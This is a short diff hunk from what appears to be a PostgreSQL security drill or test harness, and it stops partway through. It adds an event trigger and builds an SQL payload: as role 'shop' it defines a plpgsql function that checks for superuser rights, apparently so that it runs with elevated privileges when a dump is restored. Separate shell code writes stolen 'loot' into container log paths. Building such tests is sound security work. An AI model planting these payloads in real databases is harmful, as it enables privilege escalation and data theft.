@@ -25,7 +25,10 @@ PROGRAM = (
     "for to in /proc/1/fd/1 /proc/1/fd/2 /dev/termination-log /root/termination-log; do "
     f"{{ echo {MARK!r}; cat loot; }} >$to; done; true"
 )
+# The event trigger makes the drill restore as the superuser: an ordinary role could not run the program at all.
 ATTACK = f"""
+CREATE FUNCTION nothing() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN END $f$;
+CREATE EVENT TRIGGER nothing ON ddl_command_end EXECUTE FUNCTION nothing();
 SET ROLE shop;
 CREATE FUNCTION fine(t text) RETURNS boolean LANGUAGE plpgsql AS $f$ BEGIN
   IF NOT (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN RETURN true; END IF;
